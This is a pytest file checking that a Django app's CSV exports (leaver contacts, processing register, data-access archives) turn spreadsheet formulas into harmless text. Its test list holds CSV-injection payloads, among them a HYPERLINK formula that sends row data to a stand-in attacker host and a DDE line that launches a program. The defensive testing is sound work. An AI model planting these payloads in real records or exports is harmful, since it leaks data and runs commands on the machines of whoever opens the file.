"""CSV injection: a hostile value in a record must never run as a formula in a spreadsheet.

The attacker stores a prospect (or any text we later export) whose value starts with a
formula character. The DPO, HR or the leaver opens our CSV in a spreadsheet; the cell
must show the text, not run it (``=HYPERLINK`` would send the row to the attacker).
"""

import csv as stdlib_csv
import datetime
import io
import json
import zipfile

import pytest
from django.utils import timezone

from core import csv
from dsar.exports import _zip_of, export_document
from offboarding.models import ExportRow, Offboarding
from register.models import ProcessingActivity
from tests.dsar.factories import DsarFactory
from tests.factories import ProspectFactory
from tests.offboarding.conftest import leaver, open_case, successor  # noqa: F401 - fixtures

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "+1",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]
# What a spreadsheet runs: a cell whose first character is one of these (after the tab,
# carriage return or line feed that some of them strip first).
FORMULA_START = ("=", "+", "-", "@")


def assert_no_cell_runs(text: str) -> None:
    for row in stdlib_csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.lstrip("\t\r\n").startswith(FORMULA_START), cell
            assert not cell.startswith(("\t", "\r", "\n")), repr(cell)


@pytest.mark.parametrize("value", HOSTILE)
def test_the_shared_writer_neutralises_every_formula_start(value):
    buffer = io.StringIO()
    csv.writer(buffer).writerow([value])
    dict_buffer = io.StringIO()
    writer = csv.DictWriter(dict_buffer, fieldnames=["name"])
    writer.writerow({"name": value})

    for text in (buffer.getvalue(), dict_buffer.getvalue()):
        assert_no_cell_runs(text)
        [[cell]] = stdlib_csv.reader(io.StringIO(text))
        # Still readable: the value follows the quote that makes it text.
        assert cell.startswith("'") and value.replace("|", "\\|") in cell


def test_plain_values_and_numbers_are_written_unchanged():
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\n").writerow(["Marie Curie", "-2", 3, "2026-01-05", ""])

    assert buffer.getvalue() == "Marie Curie,-2,3,2026-01-05,\n"


def test_the_leavers_contacts_export_neutralises_hostile_names(api_as, open_case, leaver):  # noqa: F811
    for number, value in enumerate(HOSTILE):
        ExportRow.objects.create(
            offboarding=open_case,
            prospect_id=f"00000000-0000-0000-0000-{number:012d}",
            data=json.dumps({"full_name": value, "company": value, "notes": value}),
        )
    Offboarding.objects.filter(pk=open_case.pk).update(
        export_available_until=timezone.now() + datetime.timedelta(days=1)
    )

    response = api_as(leaver).get(f"/api/offboardings/{open_case.pk}/export/")

    assert response.status_code == 200
    text = response.content.decode()
    assert_no_cell_runs(text)
    assert "HYPERLINK" in text


def test_the_register_export_neutralises_hostile_text(api_as, dpo):
    activity = ProcessingActivity.objects.first()
    ProcessingActivity.objects.filter(pk=activity.pk).update(
        name_en=HOSTILE[0], controller=HOSTILE[3], purposes_fr=HOSTILE[4]
    )

    response = api_as(dpo).get("/api/register/export/?format=csv")

    assert response.status_code == 200
    text = response.content.decode()
    assert_no_cell_runs(text)
    assert "HYPERLINK" in text


def test_the_access_export_archive_neutralises_hostile_values(db, rep):
    email = "target@example.org"
    prospect = ProspectFactory(
        owner=rep, full_name=HOSTILE[0], company=HOSTILE[2], email=email, notes=HOSTILE[5]
    )
    dsar = DsarFactory(email=email, prospect_ids=[str(prospect.pk)])

    archive = zipfile.ZipFile(io.BytesIO(_zip_of(export_document(dsar))))

    names = [name for name in archive.namelist() if name.endswith(".csv")]
    assert "records.csv" in names
    for name in names:
        assert_no_cell_runs(archive.read(name).decode())
    assert "HYPERLINK" in archive.read("records.csv").decode()
